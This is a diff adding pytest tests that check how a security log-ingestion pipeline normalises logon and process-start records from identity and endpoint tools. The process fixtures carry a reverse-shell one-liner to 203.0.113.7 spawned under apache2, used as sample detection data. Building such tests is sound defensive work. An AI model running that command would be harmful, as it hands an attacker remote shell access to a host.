@@ -1,0 +1,122 @@
+"""JSON of directories, clouds and sensors on hosts, known by the names of its fields alone."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from ingested import events
+
+from pipeline.ingest.json_logons import json_logon
+
+OUTSIDE = "203.0.113.7"
+TIME = "2026-11-20T10:00:00Z"
+OKTA = {"published": TIME, "eventType": "user.session.start", "actor": {"alternateId": "anna"},
+        "client": {"ipAddress": OUTSIDE}, "outcome": {"result": "FAILURE"}, "uuid": "1"}  # fmt: skip
+ENTRA = {"time": TIME, "operationName": "Sign-in activity", "resultType": "50126", "callerIpAddress": OUTSIDE,
+         "properties": {"userPrincipalName": "anna", "resourceDisplayName": "Mail"}}  # fmt: skip
+M365 = {"CreationTime": "2026-11-20T10:00:00", "Operation": "UserLoginFailed", "Workload": "AzureActiveDirectory",
+        "ClientIP": f"{OUTSIDE}:443", "UserId": "anna"}  # fmt: skip
+GOOGLE = {"id": {"time": TIME, "applicationName": "login"}, "actor": {"email": "anna"}, "ipAddress": OUTSIDE,
+          "events": [{"type": "login", "name": "login_failure"}]}  # fmt: skip
+OCSF = {"class_uid": 3002, "activity_name": "Logon", "status": "Failure", "time": 1795168800000,
+        "user": {"name": "anna"}, "src_endpoint": {"ip": OUTSIDE}, "device": {"hostname": "vpn-1"}}  # fmt: skip
+FALCON = {"event_simpleName": "UserLogonFailed2", "timestamp": "1795168800000", "ComputerName": "pc-9",
+          "UserName": "anna", "RemoteIP": OUTSIDE}  # fmt: skip
+WAZUH = {"timestamp": "2026-11-20T10:00:00.000+0000", "agent": {"name": "web-1"}, "decoder": {"name": "sshd"},
+         "data": {"srcip": OUTSIDE, "dstuser": "anna"},
+         "full_log": f"Nov 20 10:00:00 web-1 sshd[77]: Failed password for anna from {OUTSIDE} port 4 ssh2"}  # fmt: skip
+
+
+def one_of(folder: Path, record: dict[str, Any]) -> dict[str, Any]:
+    (event,) = events(folder, "records.json", json.dumps(record) + "\n")
+    return event
+
+
+@pytest.mark.parametrize(
+    ("record", "host"),
+    [(OKTA, None), (ENTRA, "Mail"), (M365, "AzureActiveDirectory"), (GOOGLE, "login"), (OCSF, "vpn-1"),
+     (FALCON, "pc-9"), (WAZUH, "web-1")],
+)  # fmt: skip
+def test_a_logon_that_failed(tmp_path: Path, record: dict[str, Any], host: str | None) -> None:
+    event = one_of(tmp_path, record)
+    told = (event["ts"], event["kind"], event["action"], event["outcome"], event["user"], event["src_ip"])
+    assert told == (1795168800.0, "auth", "logon", "failure", "anna", OUTSIDE)
+    assert event.get("host") == host
+
+
+@pytest.mark.parametrize(
+    ("record", "outcome"),
+    [
+        ({**OKTA, "outcome": {"result": "SUCCESS"}}, "success"),
+        ({**OKTA, "outcome": {"result": "CHALLENGE"}}, "unknown"),
+        ({**ENTRA, "resultType": "0"}, "success"),
+        ({**ENTRA, "resultType": 50140}, "unknown"),
+        ({**M365, "Operation": "UserLoggedIn"}, "success"),
+        ({**M365, "ResultStatus": "Failed"}, "failure"),
+        ({"event": {"category": ["authentication"], "outcome": "success"}}, "success"),
+    ],
+)
+def test_how_a_logon_went(record: dict[str, Any], outcome: str) -> None:
+    assert json_logon(record) == {"kind": "auth", "action": "logon", "outcome": outcome}
+
+
+@pytest.mark.parametrize(
+    "act",
+    ["UpdateLoginProfile", "user.session.end", "UserLogoff", "policy.evaluate_sign_on", "user.mfa.factor.update",
+     "ProcessRollup2", "Add user.", "dialogue_in_progress", "catalog_index", ""],
+)  # fmt: skip
+def test_what_is_no_logon(act: str) -> None:
+    assert json_logon({"eventType": act, "status": "FAILURE"}) is None
+
+
+COMMAND = "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"
+ELASTIC = {"@timestamp": TIME, "event": {"category": ["process"], "action": "exec"}, "host": {"name": "lx-4"},
+           "process": {"executable": "/bin/bash", "command_line": COMMAND, "pid": 7,
+                       "parent": {"executable": "/usr/sbin/apache2"}}, "user": {"name": "web"}}  # fmt: skip
+DEFENDER = {"Timestamp": TIME, "ActionType": "ProcessCreated", "DeviceName": "lx-4", "FolderPath": "/bin/bash",
+            "ProcessCommandLine": COMMAND, "AccountName": "web", "ProcessId": 7,
+            "InitiatingProcessFolderPath": "/usr/sbin/apache2"}  # fmt: skip
+FALCO = {"time": "2026-11-20T10:00:00.000000000Z", "rule": "Shell", "priority": "Warning", "hostname": "lx-4",
+         "output": "10:00:00: Warning a shell", "output_fields": {
+             "proc.cmdline": COMMAND, "proc.exepath": "/bin/bash", "proc.pid": 7, "user.name": "web",
+             "proc.pexepath": "/usr/sbin/apache2"}}  # fmt: skip
+OSQUERY = {"name": "pack", "hostIdentifier": "lx-4", "unixTime": 1795168800, "action": "added",
+           "columns": {"cmdline": COMMAND, "path": "/bin/bash", "pid": "7", "username": "web"}}  # fmt: skip
+ROLLUP = {"event_simpleName": "ProcessRollup2", "timestamp": "1795168800000", "ComputerName": "lx-4", "UserName": "web",
+          "CommandLine": COMMAND, "ImageFileName": "/bin/bash", "RawProcessId": "7"}  # fmt: skip
+ARGUMENTS = {**ELASTIC, "process": {"executable": "/bin/bash", "args": COMMAND.split(" "), "pid": 7}}
+
+
+@pytest.mark.parametrize("record", [ELASTIC, DEFENDER, FALCO, OSQUERY, ROLLUP, ARGUMENTS])
+def test_a_program_that_was_started(tmp_path: Path, record: dict[str, Any]) -> None:
+    event = one_of(tmp_path, record)
+    told = {name: event[name] for name in ("ts", "kind", "command_line", "image", "pid", "user", "host")}
+    assert told == {"ts": 1795168800.0, "kind": "process", "command_line": COMMAND, "image": "/bin/bash", "pid": 7,
+                    "user": "web", "host": "lx-4"}  # fmt: skip
+    if record in (ELASTIC, DEFENDER, FALCO):
+        assert event["parent_image"] == "/usr/sbin/apache2"
+
+
+def test_windows_events_inside_a_wazuh_record(tmp_path: Path) -> None:
+    provider = "Microsoft-Windows-Sysmon"
+    system = {"providerName": provider, "eventID": "1", "channel": f"{provider}/Operational", "computer": "pc-7",
+              "systemTime": "2026-11-20T10:00:00.0000000Z"}  # fmt: skip
+    data = {"image": "C:\\x.exe", "commandLine": "x.exe /q", "parentImage": "C:\\y.exe"}
+    event = one_of(tmp_path, {"timestamp": TIME, "agent": {"name": "pc-7"},
+                              "data": {"win": {"system": system, "eventdata": data}}})  # fmt: skip
+    assert (event["format"], event["kind"], event["host"], event["ts"]) == (
+        "windows.sysmon",
+        "process",
+        "pc-7",
+        1795168800.0,
+    )
+    assert (event["image"], event["command_line"], event["parent_image"]) == ("C:\\x.exe", "x.exe /q", "C:\\y.exe")
+
+
+def test_a_trail_of_one_record_is_recognised(tmp_path: Path) -> None:
+    record = {"eventTime": TIME, "eventName": "ConsoleLogin", "eventSource": "signin.example.com",
+              "sourceIPAddress": OUTSIDE, "userIdentity": {"userName": "anna"},
+              "responseElements": {"ConsoleLogin": "Failure"}}  # fmt: skip
+    event = one_of(tmp_path, {"Records": [record]})
+    assert (event["outcome"], event["user"], event["host"]) == ("failure", "anna", "signin.example.com")
